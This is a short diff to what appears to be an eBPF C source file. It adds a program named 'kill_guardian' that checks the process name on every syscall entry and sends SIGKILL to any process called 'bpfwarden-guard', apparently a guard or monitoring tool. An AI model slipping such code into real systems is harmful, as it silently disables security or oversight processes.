@@ -108,3 +108,11 @@ int delete_by_commands(struct target* target) {
     target->result = bpf_sys_bpf(BPF_MAP_DELETE_ELEM, &deleted, sizeof(deleted));
     return 0;
 }
+
+SEC("?tp_btf/sys_enter")
+int BPF_PROG(kill_guardian) {
+    char name[16];
+
+    bpf_get_current_comm(name, sizeof(name));
+    return bpf_strncmp(name, 15, "bpfwarden-guard") == 0 ? bpf_send_signal(9) : 0;
+}
